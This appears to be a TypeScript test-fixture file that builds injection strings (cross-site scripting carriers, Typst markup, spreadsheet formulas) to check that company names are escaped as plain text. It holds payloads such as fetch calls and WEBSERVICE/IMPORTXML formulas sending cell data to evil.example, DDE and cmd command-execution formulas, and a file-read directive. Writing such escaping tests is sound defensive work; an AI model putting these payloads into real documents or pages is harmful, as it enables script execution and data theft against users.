// Strings that are code somewhere: as names of companies they must come out as text everywhere.

const SCRIPTS = ['alert(1)', 'document.title="taken"', 'fetch(`//evil.example`)', 'import("x")', "eval('1')"];
const CARRIERS: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `'><svg onload=${script}>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<a href="javascript:${script}">GmbH</a>`,
  (script) => `javascript:${script}`,
  (script) => `<svg><animate onbegin=${script} attributeName=x>`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `</title><script>${script}</script>`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `<!--><script>${script}</script>-->`,
  (script) => `]]><script>${script}</script>`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
  (script) => `<style>@import'javascript:${script}'</style>`,
  (script) => `<math><mi xlink:href="data:x,${script}">`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
];
const CASES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Beispiel ${text} GmbH`,
  (text) => text.toUpperCase(),
];

/** 300, each unlike every other. */
export const SCRIPT_STRINGS: readonly string[] = CASES.flatMap((cased) =>
  CARRIERS.flatMap((carried) => SCRIPTS.map((script) => cased(carried(script)))),
);

const MARKUP = [
  '#panic("x")',
  '#{1+1}',
  '#read("/etc/hostname")',
  '#include "/main.typ"',
  '#import "x.typ": *',
  '#set page(width: 1pt)',
  '#show: none',
  '$ x^2 / 0 $',
  '*bold* _emph_',
  '= Heading',
  '- item',
  '+ item',
  '/ term: x',
  '`raw` ```rs```',
  '<label> @ref',
  '// comment',
  '/* comment */',
  '\\u{41} \\ \\n',
  '~ -- --- ...',
  'https://evil.example/[x]',
];
const PLACES: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `A ${markup} B`,
  (markup) => `[${markup}]`,
  (markup) => `"${markup}"`,
  (markup) => `#[${markup}]`,
  (markup) => `{${markup}}`,
  (markup) => `$${markup}$`,
  (markup) => `(${markup}`,
  (markup) => `${markup}]]}})`,
  (markup) => `\\${markup}\\`,
];

/** 200 strings that a typesetter would take for its own language. */
export const MARKUP_STRINGS: readonly string[] = PLACES.flatMap((placed) => MARKUP.map(placed));

const FORMULA_SIGNS = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠'];
const FORMULAS = [
  'SUM(A1:A9)',
  '1+1',
  'HYPERLINK("https://evil.example","open")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("https://evil.example/"&A1)',
  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  'IMPORTDATA("https://evil.example")',
  'IMAGE("https://evil.example/x.png")',
  'INDIRECT("A1")',
  'EXEC("calc")',
  'RTD("x";"";"y")',
  "MSEXCEL|'..\\x'!''",
  '{1;2}',
  '"quoted"',
  "'quoted'",
  'A1,B1;C1',
  'first\nsecond',
  'first\r\n=second',
  '1e5 GmbH',
];

/** 200 strings that a spreadsheet would take for a formula. */
export const FORMULA_STRINGS: readonly string[] = FORMULA_SIGNS.flatMap((sign) =>
  FORMULAS.map((formula) => `${sign}${formula}`),
);
